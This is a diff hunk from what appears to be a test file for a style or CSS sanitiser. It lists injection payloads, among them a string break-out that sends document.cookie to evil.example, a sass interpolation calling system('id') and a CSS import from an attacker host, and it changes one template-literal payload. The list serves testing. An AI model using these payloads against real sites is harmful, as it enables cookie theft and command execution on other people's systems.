@@ -17,7 +17,7 @@ const PAYLOADS: readonly (readonly [name: string, payload: string])[] = [
   ['ends a style element', '</style><script>alert(1)</script>'],
   ['ends a comment', '*/ body { display: none } /*'],
   ['ends a string', '"; fetch("https://evil.example/"+document.cookie); "'],
-  ['template literal', '${process.env.SECRET_KEY}'],
+  ['template literal', '${globalThis.secretKey}'],
   ['sass interpolation', '#{system("id")}'],
   ['css import', '@import url("https://evil.example/x.css");'],
   ['css url', 'red; background: url(javascript:alert(1))'],
